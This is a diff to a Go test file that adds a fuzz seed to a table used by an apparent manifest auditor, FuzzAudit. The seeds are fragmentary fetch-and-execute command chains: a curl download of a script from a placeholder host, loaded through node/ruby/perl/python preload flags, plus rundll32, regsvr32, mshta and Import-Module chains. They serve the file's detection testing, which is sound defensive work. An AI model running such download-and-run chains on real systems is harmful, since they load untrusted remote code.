@@ -316,6 +316,7 @@ var fuzzSeeds = [][]string{
 	{"bash", "-c", `eval "$(ssh -s h x)$(ssh h)$(ssh -- h -o x cat y)$(autossh -M 0 h c)"; X=$(gh api); Y=$(gh gist view); Z=$(gh gist); eval "$X$Y$Z"; sh -c "$(ssh h -- cat)"`},
 	{"cmd", "/c", `curl -o C:\t\a.dll h://x & rundll32 ,x & rundll32 C:\t\a.dll, & regsvr32 /s /i:x & regasm /x a C:\t\a.dll & mshta & cscript //b //e:js & msbuild -p:x=1 & control & installutil /U /x`},
 	{"pwsh", "-Command", "iwr h://x -OutFile a.psm1; ipmo -Name; Import-Module -RequiredVersion 1 x -Name:./a.psm1; ii -LiteralPath; Invoke-Item a.psm1 -Path"},
+	{"sh", "-c", `curl -o /t/a.js h://x; node -r; node --require --import=/t/a.js -C x -r/t/a.js s.js -r /t/a.js; bun -r; ruby -rx -I/t -r; perl -I /t -I -M-strict=x -mA::B -e 1; python3 -Wd -m; cd /t; python -m a.js; deno run --preload; tsx --loader=/t/a.js`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
